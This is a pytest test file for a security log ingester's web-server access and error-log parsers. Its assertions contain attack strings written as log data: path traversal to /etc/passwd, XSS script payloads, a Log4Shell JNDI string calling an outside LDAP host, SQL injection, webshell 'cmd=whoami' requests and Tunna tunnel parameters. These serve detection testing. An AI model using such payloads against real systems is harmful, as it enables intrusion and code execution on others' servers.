"""Web-server log parsers: access (NCSA, nginx extras, IIS W3C) and error logs (nginx, Apache)."""

from __future__ import annotations

import io
import time
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.ingest.parsers.conftest import Parsed
from trailguard.ingest.base import ParseContext, Record, Rejected, SourceParser
from trailguard.ingest.parsers.web import (
    WebAccessParser,
    WebErrorParser,
    clf_time,
    nginx_context,
    parse_access_line,
    split_request,
    unescape,
)
from trailguard.store.schema import INTEGER_COLUMNS, NORMAL_COLUMNS

ParseFixture = Callable[..., Parsed]
SniffFixture = Callable[..., "str | None"]

C2 = "evtx-attack-samples/Command and Control"
ACCESS_FILES = ["nginx_access.log", "apache_combined.log", "tomcat_access.txt", "u_ex240301.log"]
ERROR_FILES = ["nginx_error.log", "apache_error.log"]


def _fixture(fixtures: Path, kind: str, name: str) -> bytes:
    return (fixtures / kind / name).read_bytes()


def _check_normal(record: Record) -> None:
    for column, value in record.normal.items():
        assert column in NORMAL_COLUMNS
        assert isinstance(value, int if column in INTEGER_COLUMNS else str), column


# --------------------------------------------------------------------------- access logs


def test_nginx_combined_with_extras(parse: ParseFixture, fixtures: Path) -> None:
    parsed = parse("web_access", _fixture(fixtures, "web_access", "nginx_access.log"))
    assert not parsed.rejected
    assert len(parsed.records) == 7
    for record in parsed.records:
        _check_normal(record)
        assert record.normal["category"] == "web"
    home, scan, traversal, upload, xss, tls, utf8 = parsed.records
    assert home.time == datetime(2024, 3, 1, 10, 0, 0)
    assert home.data["time_local"] == "01/Mar/2024:10:00:00 +0000"
    assert home.data["referer"] is None
    assert home.data["x_forwarded_for"] is None
    assert home.normal == {
        "category": "web", "src_ip": "203.0.113.7", "operation": "GET", "url": "/",
        "outcome": "success", "bytes": 612,
        "user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    }
    assert scan.normal["error_code"] == "404"
    assert scan.normal["outcome"] == "failure"
    assert traversal.data["query"] == "page=../../../etc/passwd"
    assert traversal.data["x_forwarded_for"] == "10.1.2.3, 192.0.2.1"
    assert traversal.data["cs-uri-query"] == "/index.php?page=../../../etc/passwd"
    assert upload.normal["src_ip"] == "2001:db8::5"
    assert upload.normal["actor_user"] == "admin"
    assert upload.time == datetime(2024, 3, 1, 9, 0, 3)  # +0100 → UTC
    assert upload.data["protocol"] == "HTTP/2.0"
    assert xss.data["query"] == 'q="><script>alert(1)</script>'  # nginx \x22 decoded
    assert xss.normal["user_agent"] == "${jndi:ldap://192.0.2.66:1389/a}"
    assert tls.data["method"] is None  # a TLS handshake sent to the HTTP port
    assert "operation" not in tls.normal
    assert utf8.data["path"] == "/café"
    assert utf8.data["user_agent"] == 'Mozilla/5.0 "quoted"'


def test_apache_combined_common_and_vhost(parse: ParseFixture, fixtures: Path) -> None:
    parsed = parse("web_access", _fixture(fixtures, "web_access", "apache_combined.log"))
    assert not parsed.rejected
    gif, regeorg, sqli, vhost, common, timeout = parsed.records
    assert gif.time == datetime(2023, 10, 10, 20, 55, 36)
    assert gif.data["referer"] == "http://www.example.com/start.html"
    assert regeorg.data["bytes"] == 0
    assert regeorg.data["sc-bytes"] == 0
    assert regeorg.data["user"] == "frank"
    assert regeorg.data["cs-referer"] is None
    assert regeorg.data["cs-user-agent"] is None
    assert sqli.data["query"] == "q=\"1'='1\""  # Apache's \" decoded
    assert sqli.data["user_agent"] == 'Mozilla/5.0 "evil" agent'
    assert vhost.data["vhost"] == "www.example.com:443"
    assert vhost.data["remote_addr"] == "10.1.1.8"
    assert vhost.normal["operation"] == "HEAD"
    assert common.data["referer"] is None
    assert common.normal["error_code"] == "403"
    assert timeout.data["request"] == "-"
    assert timeout.data["method"] is None


def test_unescaped_quotes_from_tomcat(parse: ParseFixture, fixtures: Path) -> None:
    parsed = parse("web_access", _fixture(fixtures, "web_access", "tomcat_access.txt"))
    assert not parsed.rejected
    assert parsed.records[1].normal["actor_user"] == "tomcat"
    shell = parsed.records[2]
    assert shell.data["method"] == "GET"
    assert shell.data["query"] == 'cmd=whoami&x="><svg/onload=alert(1)>'
    assert shell.data["status"] == 200
    assert shell.time == datetime(2024, 2, 5, 5, 12, 9)


def test_iis_w3c_fields_and_aliases(parse: ParseFixture, fixtures: Path) -> None:
    parsed = parse("web_access", _fixture(fixtures, "web_access", "u_ex240301.log"))
    assert not parsed.rejected
    assert [r.position for r in parsed.records] == [5, 6, 7, 12]  # # directives are skipped
    owa, shell, tilde, intranet = parsed.records
    assert owa.time == datetime(2024, 3, 1, 9, 15, 2)
    assert owa.data["cs(User-Agent)"] == "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)"
    assert owa.data["cs-user-agent"] == "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
    assert owa.data["cs-host"] == "mail.example.com"
    assert owa.data["sc-status"] == 200
    assert owa.data["cs-uri-query"] is None
    assert owa.normal["host"] == "WEB01"
    assert owa.normal["dst_ip"] == "10.0.5.13"
    assert owa.normal["dst_port"] == 443
    assert shell.data["cs-uri-query"] == "cmd=whoami"  # native W3C meaning kept
    assert shell.data["c-uri"] == "/aspnet_client/system_web/shell.aspx?cmd=whoami"
    assert shell.normal["url"] == shell.data["c-uri"]
    assert shell.normal["operation"] == "POST"
    assert tilde.normal["error_code"] == "404"
    assert intranet.data["cs-username"] == "CORP\\jdoe"
    assert intranet.normal["actor_user"] == "CORP\\jdoe"
    assert intranet.data["cs-referer"] == "https://intranet/"
    assert "s-computername" not in intranet.data  # second #Fields block applies


def test_bad_lines_are_rejected_with_a_reason(parse: ParseFixture) -> None:
    data = (b'1.2.3.4 - - [01/Mar/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1\n'
            b"Mar  1 10:00:00 host sshd[1]: Accepted password for root\n\n"
            b"#Fields: date time cs-method cs-uri-stem sc-status\n"
            b"2024-03-01 10:00:00 GET /\n2024-03-01 10:00:01 GET / 200\n")
    parsed = parse("web_access", data)
    assert [r.position for r in parsed.records] == [1, 6]
    assert [r.position for r in parsed.rejected] == [2, 5]
    assert parsed.rejected[0].reason.startswith("not an access-log line")
    assert "#Fields declares 5" in parsed.rejected[1].reason


def test_sigma_webserver_fields_are_present(parse: ParseFixture, fixtures: Path,
                                            shared_data: Path) -> None:
    """Every field SigmaHQ's webserver rules test is a native field of an NCSA record."""
    yaml = pytest.importorskip("yaml")
    wanted: set[str] = set()
    for path in (shared_data / "sigma" / "rules" / "web" / "webserver_generic").glob("*.yml"):
        detection = yaml.safe_load(path.read_text())["detection"]
        for name, block in detection.items():
            if name != "condition" and isinstance(block, dict):
                wanted |= {key.split("|")[0] for key in block}
    assert {"cs-method", "cs-uri-query", "sc-status", "cs-user-agent", "cs-referer"} <= wanted
    record = parse("web_access", _fixture(fixtures, "web_access", "nginx_access.log")).records[2]
    assert wanted <= set(record.data)


def test_helpers() -> None:
    assert clf_time("10/Oct/2000:13:55:36 -0700") == datetime(2000, 10, 10, 20, 55, 36)
    assert clf_time("10/Oct/2000:13:55:36.250 +05:30") == datetime(2000, 10, 10, 8, 25, 36,
                                                                    250000)
    assert clf_time("31/Feb/2000:13:55:36 -0700") is None
    assert clf_time("garbage") is None
    assert split_request("GET /a?b=1&c HTTP/1.1") == {
        "method": "GET", "target": "/a?b=1&c", "path": "/a", "query": "b=1&c",
        "protocol": "HTTP/1.1"}
    assert split_request("GET /a b HTTP/1.1")["target"] == "/a b"
    assert split_request("GET /index.jsp ")["path"] == "/index.jsp"
    assert split_request("GNUTELLA CONNECT/0.6")["method"] is None
    assert unescape('\\"a\\\\b\\x41\\xe2\\x80\\xa6\\xff') == '"a\\bA…\\xff'
    assert parse_access_line("not a log line") is None




@pytest.mark.parametrize("sample", [
    b"#Software: Microsoft Windows Firewall\n#Version: 1.5\n#Fields: date time action protocol "
    b"src-ip dst-ip src-port dst-port size tcpflags\n2024-03-01 10:00:00 DROP TCP 1.2.3.4 "
    b"5.6.7.8 1 2 40 S\n",
    b"Mar  1 10:00:00 host sshd[1]: Failed password for root from 1.2.3.4 port 22 ssh2\n",
    b'{"eventVersion": "1.08", "eventSource": "iam.amazonaws.com"}\n',
    b"2024/03/01 10:00:00 [error] 1#1: *5 open() failed, client: 1.2.3.4, server: x\n",
    b"#separator \\x09\n#fields\tts\tuid\n",
    b"2 123456789010 eni-1 1.1.1.1 2.2.2.2 443 49152 6 10 840 1 2 ACCEPT OK\n",
])
def test_access_sniffer_leaves_other_formats(sample: bytes) -> None:
    assert WebAccessParser.sniff(sample, "x.log") == 0


def test_public_tomcat_webshell_access_log(parse: ParseFixture, shared_data: Path) -> None:
    path = shared_data / C2 / "web_attack_and_isp_webshell_localhost_access_log.txt"
    data = path.read_bytes()
    expected = sum(1 for line in data.split(b"\n") if line.strip())
    assert WebAccessParser.sniff(data[:65536], path.name) >= 85
    parsed = parse("web_access", data, name=path.name)
    assert len(parsed.records) == expected == 2661
    assert not parsed.rejected
    assert all(r.time is not None for r in parsed.records)
    first = parsed.records[0]
    assert first.data["remote_addr"] == "192.168.105.83"
    assert first.time == datetime(2018, 7, 11, 5, 41, 28)
    assert first.normal["bytes"] == 11444
    postdata = [r for r in parsed.records if "postdata=" in r.raw]
    assert postdata
    assert all(r.data["query"].startswith('postdata="><script>') for r in postdata)
    assert sum(r.normal["outcome"] == "failure" for r in parsed.records) > 1000
    for record in parsed.records:
        _check_normal(record)


def test_public_iis_tunna_log(parse: ParseFixture, shared_data: Path) -> None:
    path = shared_data / C2 / "Tunna_rdp_tunnel_IIS.log"
    data = path.read_bytes()
    expected = sum(1 for line in data.split(b"\n")
                   if line.strip() and not line.startswith(b"#"))
    assert WebAccessParser.sniff(data[:65536], path.name) >= 85
    parsed = parse("web_access", data, name=path.name)
    assert len(parsed.records) == expected == 4298
    assert not parsed.rejected
    first = parsed.records[0]
    assert first.data["cs-uri-query"] == "proxy&port=3389&ip=127.0.0.1"  # Tunna's signature
    assert first.data["c-ip"] == "10.0.2.17"
    assert first.normal["url"] == "/erp/conn.aspx?proxy&port=3389&ip=127.0.0.1"
    assert first.time == datetime(2019, 9, 3, 10, 13, 36)
    methods = {r.normal["operation"] for r in parsed.records}
    assert methods == {"GET", "POST"}
    assert {r.data["cs-uri-stem"] for r in parsed.records} == {"/erp/conn.aspx"}


# --------------------------------------------------------------------------- error logs


def test_nginx_error_log(parse: ParseFixture, fixtures: Path) -> None:
    parsed = parse("web_error", _fixture(fixtures, "web_error", "nginx_error.log"))
    assert not parsed.rejected
    notice, env, upstream, tls, crash, forged = parsed.records
    for record in parsed.records:
        _check_normal(record)
        assert record.normal["log_name"] == "nginx"
    assert notice.data["level"] == "notice"
    assert notice.data["pid"] == 1
    assert env.time == datetime(2024, 3, 1, 10, 0, 2)
    assert env.data["connection"] == 5
    assert env.data["message"] == ('open() "/usr/share/nginx/html/.env" failed (2: No such '
                                   "file or directory)")
    assert env.data["request"] == "GET /.env HTTP/1.1"
    assert env.normal["src_ip"] == "203.0.113.7"
    assert env.normal["url"] == "/.env"
    assert env.normal["operation"] == "error"
    assert upstream.data["upstream"] == "http://127.0.0.1:8080/v1/login"
    assert upstream.data["referrer"] == "https://api.example.com/"
    assert upstream.normal["src_ip"] == "2001:db8::5"
    assert tls.data["server"] == "0.0.0.0:443"
    assert "request" not in tls.data
    assert "exited on signal 6 (core dumped)" in crash.data["message"]
    assert forged.data["request"] == 'GET /a, host: "evil HTTP/1.1'
    assert forged.data["host"] == "example.com"


def test_apache_error_log(parse: ParseFixture, fixtures: Path) -> None:
    parsed = parse("web_error", _fixture(fixtures, "web_error", "apache_error.log"))
    assert [r.position for r in parsed.rejected] == [7]  # a bare "Stack trace:" line
    assert parsed.rejected[0].reason == "not an nginx or Apache error-log line"
    start, uri, denied, php, segv, old = parsed.records
    assert start.time == datetime(2024, 3, 1, 10, 0, 0, 123456)
    assert start.data["module"] == "mpm_event"
    assert start.data["tid"] == 140245
    assert uri.normal["error_code"] == "AH00126"
    assert uri.normal["src_ip"] == "203.0.113.7"
    assert uri.normal["src_port"] == 52344
    assert denied.data["client"] == "2001:db8::5"
    assert denied.data["client_port"] == 40001
    assert denied.data["referer"] == "http://example.com/"
    assert not denied.data["message"].endswith("http://example.com/")
    assert php.data["pid"] == 1242
    assert php.data["tid"] is None
    assert "exit signal Segmentation fault" in segv.data["message"]
    assert old.data["module"] is None
    assert old.normal["src_ip"] == "10.1.1.9"
    assert "src_port" not in old.normal


def test_nginx_context_split() -> None:
    assert nginx_context("plain message") == ("plain message", {})
    message, context = nginx_context('x, client: 1.2.3.4, server: s, request: "GET / HTTP/1.1"')
    assert message == "x"
    assert context == {"client": "1.2.3.4", "server": "s", "request": "GET / HTTP/1.1"}




@pytest.mark.parametrize("sample", [
    b'1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 2326\n',
    b"Mar  1 10:00:00 host sshd[1]: Failed password for root from 1.2.3.4 port 22 ssh2\n",
    b"[2024-03-01 10:00:00] app.ERROR: something\n",
    b"#separator \\x09\n#fields\tts\tuid\n",
])
def test_error_sniffer_leaves_other_formats(sample: bytes) -> None:
    assert WebErrorParser.sniff(sample, "error.log") == 0


# --------------------------------------------------------------------------- hostile input


def _run(parser: type[SourceParser], data: bytes) -> list[Record | Rejected]:
    items = list(parser().parse(io.BytesIO(data), ParseContext("fuzz.log")))
    for item in items:
        assert isinstance(item, Record | Rejected)
        assert item.position >= 1
        if isinstance(item, Record):
            _check_normal(item)
    return items


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_random_bytes_never_raise(data: bytes) -> None:
    _run(WebAccessParser, data)
    _run(WebAccessParser, b"#Fields: date time cs-method cs-uri-stem\n" + data)
    _run(WebErrorParser, data)
    WebAccessParser.sniff(data, "access.log")
    WebErrorParser.sniff(data, "error.log")


PIECES = st.sampled_from([
    '1.2.3.4 - - [01/Mar/2024:10:00:00 +0000] "', "GET / HTTP/1.1", '" 200 12', ' "-" "',
    '\\"', '"', "\\", "\\x22", " ", "[", "]", "::1", "-", ", client: ", ', request: "',
    "2024/03/01 10:00:00 [error] 1#1: *2 ", "[Fri Mar 01 10:00:00 2024] [error] ",
    "[client 1.2.3.4:5]", "#Fields: date time", "\t",
]) | st.text(max_size=15)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(PIECES, max_size=10).map("".join), max_size=10))
def test_log_like_lines_never_raise(lines: list[str]) -> None:
    data = "\n".join(line.replace("\n", " ") for line in lines).encode("utf-8", "surrogatepass")
    access = _run(WebAccessParser, data)
    errors = _run(WebErrorParser, data)
    non_blank = sum(1 for line in data.split(b"\n") if line.strip())
    assert len(errors) == non_blank
    assert len(access) <= non_blank


@settings(max_examples=50, deadline=None)
@given(st.sampled_from([("web_access", n) for n in ACCESS_FILES]
                       + [("web_error", n) for n in ERROR_FILES]), st.floats(0, 1))
def test_truncated_fixtures_never_raise(kind_name: tuple[str, str], fraction: float) -> None:
    kind, name = kind_name
    data = (Path(__file__).resolve().parents[2] / "fixtures" / kind / name).read_bytes()
    parser = WebAccessParser if kind == "web_access" else WebErrorParser
    _run(parser, data[: int(len(data) * fraction)])


def test_pathological_lines_stay_fast() -> None:
    """Crafted lines must not make the regular expressions backtrack for long."""
    head = '1.2.3.4 - - [01/Mar/2024:10:00:00 +0000] "GET /'
    lines = [
        head + '" 200 1 "x' * 2000,
        head + '" 200 1 "-" "' + '\\"' * 5000,
        head + " [" * 5000,
        "1.2.3.4 " + "- " * 20000 + "[",
        "2024/03/01 10:00:00 [error] 1#1: x" + ', client: 1, request: "' * 3000,
        head + "a" * 200_000 + '" 200 1 "-" "' + '"' * 100,
    ]
    started = time.perf_counter()
    for line in lines:
        _run(WebAccessParser, line.encode())
        _run(WebErrorParser, line.encode())
    assert time.perf_counter() - started < 2.0
